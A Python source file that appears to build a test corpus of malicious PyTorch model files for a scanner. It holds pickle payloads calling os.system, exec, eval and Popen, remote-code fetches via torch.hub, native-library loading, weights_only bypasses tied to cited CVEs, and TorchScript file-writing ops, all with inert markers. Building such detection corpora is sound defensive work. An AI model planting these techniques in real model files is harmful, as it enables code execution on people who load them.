"""PyTorch files: zip, legacy stream, tar, torch.package, TorchScript."""

import struct

from malicious_files import Entry, tarred, zipped
from malicious_ops import (
    MARKER, NOWHERE, PAYLOAD, PAYLOAD4, PYTHON, SHELL, URL, Build, Call, Drop, Items, Pers, attr, call, dump, g, system, wrap,
)

STORAGE = struct.pack("<4f", 0.25, -0.5, 1.0, 2.0)
EVIL_CODE = b"import os\nos.system('echo CLEANBILL-INERT')\n"


def tensor(count=4, kind="FloatStorage", key="0", size=(2, 2)):
    """A tensor as `torch.save` writes it: a rebuild call on a persistent storage."""
    storage = Pers(("storage", g("torch", kind), key, "cpu", count))
    return call("torch._utils:_rebuild_tensor_v2", storage, 0, size, (size[-1], 1), False, call("collections:OrderedDict"))


def state(*extra):
    """A state dict of one tensor and what else is asked for."""
    return Items(call("collections:OrderedDict"), ("fc.weight", tensor()), *extra)


EVIL = dump(state(("fc.hook", system())), 2)
PLAIN = dump(state(), 2)


def torch_zip(pickle, root="archive", more=(), storage=STORAGE, **options):
    """A torch zip with the usual members."""
    entries = [Entry(f"{root}/data.pkl", pickle), Entry(f"{root}/byteorder", b"little"),
               Entry(f"{root}/data/0", storage), Entry(f"{root}/version", b"3\n"),
               Entry(f"{root}/.data/serialization_id", b"1234567890123456789012345678901234567890")]
    return zipped([*entries, *more], align=64, **options)


def legacy(pickle, magic=dump(0x1950A86A20F9469CFC6C, 2), protocol=dump(1001, 2), system_info=None, keys=None, tail=b""):
    """The stream of five pickles, then storages."""
    info = system_info or dump({"protocol_version": 1001, "little_endian": True, "type_sizes": {
        "short": 2, "int": 4, "long": 4}}, 2)
    return magic + protocol + info + pickle + (keys or dump(["0"], 2)) + struct.pack("<q", 4) + STORAGE + tail


def torch_tar(pickle, storages=None, tensors=None):
    """The tar of torch 0.1."""
    stored = storages or dump(1, 2) + dump(("0", "cpu", g("torch:FloatStorage")), 2) + struct.pack("<q", 4) + STORAGE
    return tarred([("sys_info", dump({"protocol_version": 1000}, 2)), ("pickle", pickle), ("storages", stored),
                   ("tensors", tensors or dump(0, 2))])


def package(pickle, code=b"class Model:\n    pass\n", extern=b"sys\n", more=()):
    """A torch.package archive."""
    return zipped([Entry("package/.data/version", b"6\n"), Entry("package/.data/extern_modules", extern),
                   Entry("package/.data/python_version", b"3.11.7"), Entry("package/byteorder", b"little"),
                   Entry("package/model/model.pkl", pickle), Entry("package/net/__init__.py", code), *more], align=64)


def script(code, data=None, constants=None, more=()):
    """A TorchScript archive."""
    data = data or dump(Build(call("__torch__.M"), {"training": False}), 2)
    return zipped([Entry("m/data.pkl", data), Entry("m/code/__torch__.py", code),
                   Entry("m/code/__torch__.py.debug_pkl", dump((), 2)), Entry("m/constants.pkl", constants or dump((), 2)),
                   Entry("m/version", b"3\n")], align=64)


MODULE = b"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"


def build(corpus):
    """Adds the groups `torch-zip`, `torch-legacy`, `torch-package` and `torchscript`."""
    def add(group, slug, name, data, technique, advisory=None, note=""):
        corpus.add(group, ("" if advisory else "torch-") + slug, name, data, technique, advisory, note)

    trees = [
        ("state-dict-hook", state(("fc.hook", system())), "call beside a tensor"),
        ("payload-first", Drop(system(), state()), "call popped, state dict returned"),
        ("exec", state(("x", call("builtins:exec", PYTHON))), ""),
        ("eval-in-metadata", Build(state(), {"_metadata": call("builtins:eval", PYTHON)}), "BUILD state of the OrderedDict"),
        ("popen", state(("x", call("subprocess:Popen", ["echo", MARKER]))), ""),
        ("getattr", state(("x", Call(attr(call("builtins:__import__", "os"), "system"), SHELL))), ""),
        ("unlisted-spawn", state(("x", call("distutils.spawn:spawn", ["echo", MARKER]))), "unlisted callable"),
        ("hub-load", state(("x", call("torch.hub:load", "cleanbill/example-invalid", "entry"))), "remote code"),
        ("hub-download", state(("x", call("torch.hub:download_url_to_file", URL, NOWHERE))), "file write"),
        ("nested-load", state(("x", call("torch.storage:_load_from_bytes", dump(system(), 2)))), "pickle inside a pickle"),
        ("storage-type-call", state(("x", Pers(("storage", system(), "0", "cpu", 4)))), "call inside the persistent id"),
        ("rebuild-wrapper", state(("x", call("torch._tensor:_rebuild_from_type_v2", g("os:system"), g("builtins:str"), (
            SHELL,), {}))), "rebuild helper calls its argument"),
        ("rebuild-from-type", state(("x", call("torch._tensor:_rebuild_from_type", g("os:system"), g("builtins:str"), (
            SHELL,), {}))), "rebuild helper calls its argument"),
        ("rebuild-parameter-state", state(("x", call("torch._utils:_rebuild_wrapper_subclass", g("subprocess:Popen"), "f", (
            1,), (1,), 0, "s", "cpu", False))), "class argument"),
        ("fx-graph-module", state(("x", call("torch.fx.graph_module:reduce_graph_module", {"_code": EVIL_CODE.decode()}, "")))
         , "code rebuilt from text"),
        ("device-lends-os", state(("x", call(g("torch.serialization", "os.system"), SHELL))), "dotted name"),
        ("cpp-extension", state(("x", call("torch.utils.cpp_extension:load_inline", "m", "int x;"))), "compiles and loads"),
        ("load-library", state(("x", call(g("torch._ops", "_Ops.load_library"), None, NOWHERE + ".so"))), "native code"),
        ("whole-module", Build(call("torch.nn.modules.linear:Linear", 2, 2), {"forward": system()}), "whole module saved"),
        ("optimizer-state", {"epoch": 9, "optimizer": {"state": {}, "param_groups": [{"lr": 0.1, "hook": system()}]}}, ""),
    ]
    for number, (slug, tree, note) in enumerate(trees):
        proto = 4 if slug in ("device-lends-os", "load-library") else 2
        name = ("pytorch_model.bin", "model.pt", "checkpoint.pth", "last.ckpt")[number % 4]
        add("torch-zip", f"zip-{slug}", name, torch_zip(dump(tree, proto)), "torch zip", note=note)
    add("torch-zip", "zip-root-named", "yolo.pt", torch_zip(EVIL, root="yolo"), "torch zip", note="root folder of another name")
    add("torch-zip", "zip-renamed-pickle", "model.pt", zipped([
        Entry("archive/data.pkl", PLAIN), Entry("archive/config.p", EVIL), Entry("archive/version", b"3\n")], align=64),
        "pickle member with another extension", "GHSA-769v-p64c-89pr, CVE-2025-1889", "loaded by a helper script")
    add("torch-zip", "zip-pickle-as-storage", "model.pt", torch_zip(PLAIN, storage=dump(system(), 4)), "pickle in a tensor member",
        note="member data/0 is a pickle")
    add("torch-zip", "zip-two-data-pkl", "model.pt", torch_zip(PLAIN, more=[Entry("archive/data.pkl", EVIL)]),
        "duplicate member", note="two members data.pkl, the last is the bad one")
    add("torch-zip", "zip-two-roots", "model.pt", torch_zip(PLAIN, more=[Entry("other/data.pkl", EVIL)]), "second root",
        note="second data.pkl below another root")
    add("torch-zip", "zip-upper-name", "MODEL.PT", torch_zip(EVIL), "upper case extension")
    add("torch-zip", "zip-prefix", "model.pt", torch_zip(EVIL, prefix=b"\0" * 64), "bytes before the zip",
        note="offsets count from the file start")
    add("torch-zip", "zip-deflated", "model.pt", zipped([
        Entry("archive/data.pkl", EVIL, method=8), Entry("archive/version", b"3\n")]), "deflated member")
    add("torch-zip", "zip-extra-python", "model.pt", torch_zip(PLAIN, more=[Entry("archive/code/hook.py", EVIL_CODE)]),
        "code beside tensors")
    corrupt = Items(tensor(), (0, 1.0), ("x", 2.0))
    add("torch-zip", "zip-setitem-on-tensor", "model.pt", torch_zip(dump({"w": corrupt}, 2)), "memory corruption",
        "CVE-2026-24747", "SETITEM on a tensor under weights_only")
    add("torch-zip", "zip-storage-count", "model.pt", torch_zip(dump({"w": tensor(1 << 40, size=(1 << 20, 1 << 20))}, 2)),
        "memory corruption", "CVE-2026-24747", "element count far beyond the storage bytes")

    object_pickle = dump(state(("hook", system())), 2)
    benign = dump(state(), 2)
    add("torch-legacy", "legacy-object", "model.pth", legacy(object_pickle), "legacy torch: object pickle")
    add("torch-legacy", "legacy-magic-eval", "model.pt", legacy(benign, magic=dump(call(
        "builtins:eval", "0x1950a86a20f9469cfc6c"), 2)), "legacy torch: magic number computed", "GHSA-97f8-7cmv-76j2")
    add("torch-legacy", "legacy-magic-exec-int", "model.pt", legacy(benign, magic=dump(Drop(
        call("builtins:exec", PYTHON), 0x1950A86A20F9469CFC6C), 2)), "legacy torch: payload in the magic pickle",
        "GHSA-97f8-7cmv-76j2")
    add("torch-legacy", "legacy-magic-int-call", "model.bin", legacy(benign, magic=dump(call(
        "builtins:int", "119547037146038801333356"), 2)) .replace(benign, object_pickle), "legacy torch: magic by a call",
        "GHSA-97f8-7cmv-76j2")
    add("torch-legacy", "legacy-sys-info", "model.pth", legacy(benign, system_info=dump(
        {"protocol_version": 1001, "little_endian": system()}, 2)), "legacy torch: system info pickle")
    add("torch-legacy", "legacy-keys", "model.pth", legacy(benign, keys=dump(["0", system()], 2)),
        "legacy torch: storage keys pickle")
    add("torch-legacy", "legacy-protocol", "model.pth", legacy(benign, protocol=dump(Drop(system(), 1001), 2)),
        "legacy torch: protocol pickle")
    add("torch-legacy", "legacy-tail", "model.pth", legacy(benign, tail=dump(system(), 2)), "legacy torch: pickle after storages")
    add("torch-legacy", "plain-pickle-named-bin", "pytorch_model.bin", dump(state(("hook", system())), 4),
        "plain pickle with a torch extension", "GHSA-jgw4-cr84-mqxg, CVE-2025-10155")
    add("torch-legacy", "plain-pickle-named-pt", "model.pt", wrap(PAYLOAD4), "plain pickle with a torch extension",
        "GHSA-jgw4-cr84-mqxg, CVE-2025-10155")
    add("torch-legacy", "plain-protocol-0-named-ckpt", "model.ckpt", dump(system(), 0), "plain pickle with a torch extension",
        "GHSA-jgw4-cr84-mqxg, CVE-2025-10155", "no PROTO opcode")
    add("torch-legacy", "tar-pickle", "model.tar", torch_tar(object_pickle), "torch tar: pickle member")
    add("torch-legacy", "tar-storages", "model.pt", torch_tar(benign, storages=dump(system(), 2)),
        "torch tar: storages member", "CVE-2025-32434", "weights_only does not guard it")
    add("torch-legacy", "tar-tensors", "model.pth", torch_tar(benign, tensors=dump(system(), 2)),
        "torch tar: tensors member", "CVE-2025-32434", "weights_only does not guard it")
    add("torch-legacy", "tar-as-bin", "pytorch_model.bin", torch_tar(object_pickle), "torch tar under another name")

    model = dump(call("net:Model"), 3)
    add("torch-package", "package-code", "model.pt", package(model, EVIL_CODE + b"class Model: pass\n"), "torch.package: module code")
    add("torch-package", "package-pickle", "model.pt", package(dump(system(), 3)), "torch.package: pickle", note="os is extern")
    add("torch-package", "package-extern-os", "package.pt", package(dump(call("os:system", SHELL), 3), extern=b"os\nsubprocess\n"),
        "torch.package: extern module")
    add("torch-package", "package-unread-module", "package.pt", package(model, more=[
        Entry("package/net/sub/__init__.py", b"__import__('os').system('echo CLEANBILL-INERT')\n")]), "torch.package: second module")
    add("torch-package", "package-reduce-package", "package.pt", package(dump(call(
        "torch.package.package_importer:PackageImporter", NOWHERE), 3)), "torch.package: nested importer")
    add("torch-package", "package-fx", "package.pt", package(dump(call(
        "torch.fx.graph_module:reduce_package_graph_module", None, {"_code": PYTHON}, "net"), 3)), "torch.package: fx code")

    ops = [
        ("from-file", "    y = torch.from_file(\"/nonexistent/CLEANBILL-INERT\", True, 4)\n    return y\n", "CVE-2025-32434",
         "op that maps a file for writing"),
        ("save", "    _0 = ops.aten.save(x, \"/nonexistent/CLEANBILL-INERT\")\n    return x\n", "CVE-2025-32434",
         "op that writes a file"),
        ("custom-op", "    return ops.cleanbill_inert.run(x, \"echo CLEANBILL-INERT\")\n", None, "custom operator"),
        ("bulk-rpc", "    _0 = ops.aten.rpc_sync(\"w\", \"f\", (x,))\n    return x\n", None, "remote call operator"),
        ("classes", "    _0 = __torch__.torch.classes.cleanbill.Inert.__new__()\n    return x\n", None, "custom class"),
    ]
    for slug, text, advisory, note in ops:
        add("torchscript", f"script-{slug}", "traced.pt", script(MODULE + text.encode()), "TorchScript operator", advisory, note)
    plain = MODULE + b"    return x\n"
    add("torchscript", "script-constants", "scripted.pt", script(plain, constants=dump((system(),), 2)), "TorchScript constants pickle")
    add("torchscript", "script-data-pickle", "scripted.pt", script(plain, data=dump(system(), 2)), "TorchScript data pickle")
    add("torchscript", "script-debug-pickle", "scripted.pt", zipped([
        Entry("m/data.pkl", dump({}, 2)), Entry("m/code/__torch__.py", plain),
        Entry("m/code/__torch__.py.debug_pkl", wrap(PAYLOAD, 2)), Entry("m/constants.pkl", dump((), 2)),
        Entry("m/version", b"3\n")]), "TorchScript debug pickle")
    add("torchscript", "script-extra-file", "scripted.pt", zipped([
        Entry("m/data.pkl", dump({}, 2)), Entry("m/code/__torch__.py", plain), Entry("m/constants.pkl", dump((), 2)),
        Entry("m/extra/preprocess.pkl", dump(system(), 4)), Entry("m/version", b"3\n")]), "pickle among extra files")
